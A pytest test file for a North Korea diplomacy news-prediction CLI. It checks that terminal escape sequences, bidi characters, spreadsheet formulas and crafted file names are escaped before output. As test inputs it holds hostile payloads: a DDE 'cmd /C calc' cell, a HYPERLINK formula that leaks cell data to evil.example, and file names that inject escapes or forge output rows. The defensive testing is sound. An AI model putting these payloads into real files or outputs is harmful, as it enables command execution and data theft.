"""Page text and file names reach no terminal or spreadsheet raw (probes N4-N7)."""

from __future__ import annotations

import csv
import io

import pytest
from conftest import run_cli
from test_cli import stderr

from nkdiplomacy.text.display import for_spreadsheet, for_terminal

HOSTILE = (
    "North Korea \x1b[31mfired\x1b[0m a missile toward Japan \x1b]0;PWNED\x07 on Monday, officials said.\n"
    "Kim Jong Un met Xi Jinping \x1b[2J\x1b[H in Beijing \u202eto discuss sanctions.\n"
)


def test_control_and_bidi_characters_become_visible_escapes():
    assert for_terminal("a\x1b[2Jb\x07c\u202ed\x9b\n") == "a\\x1b[2Jb\\x07c\\u202ed\\x9b\\x0a"
    assert (
        for_terminal("Kim Jong Un met Xi Jinping, 北京 — «ok»") == "Kim Jong Un met Xi Jinping, 北京 — «ok»"
    )


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tx"])
def test_formula_cells_get_a_leading_apostrophe(cell):
    assert (
        for_spreadsheet(cell) == "'" + cell
        and for_spreadsheet("North Korea = trouble") == "North Korea = trouble"
    )


@pytest.mark.parametrize("fmt", ["table", "text", "csv"])
def test_predict_output_carries_no_raw_escape_sequence(tmp_path, fmt):
    page = tmp_path / "ansi.txt"
    page.write_text(HOSTILE, encoding="utf-8")
    result = run_cli("predict", str(page), "--format", fmt)
    assert result.returncode == 0, stderr(result)
    out = result.stdout.decode("utf-8")
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b[2J" in out or fmt == "text" and "\\x1b" in out


def test_csv_cells_that_would_run_as_formulas_are_prefixed(tmp_path):
    page = tmp_path / "csvinj.txt"
    page.write_text('=HYPERLINK("http://evil.example/?x="&A1,"North Korea talks")\n@SUM(1+1) North Korea\n')
    result = run_cli("predict", str(page), "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.stdout.decode("utf-8"))))
    assert [r["text"][:2] for r in rows] == ["'=", "'@"]


def test_a_file_name_cannot_inject_escapes_into_error_lines_or_forge_a_text_header(tmp_path):
    empty = tmp_path / "\x1b]0;TITLE\x07evil.txt"
    empty.write_text("")
    result = run_cli("predict", str(empty))
    assert (
        result.returncode == 1
        and "\x1b" not in stderr(result)
        and "\\x1b]0;TITLE\\x07evil.txt" in stderr(result)
    )
    forged = tmp_path / "a\nfake_doc,0,true,1.0000,meeting.txt"
    forged.write_text("Kim Jong Un met Xi Jinping in Beijing.\n")
    result = run_cli("predict", str(forged), "--format", "text")
    lines = result.stdout.decode("utf-8").splitlines()
    assert result.returncode == 0 and not any(line.startswith("fake_doc") for line in lines)
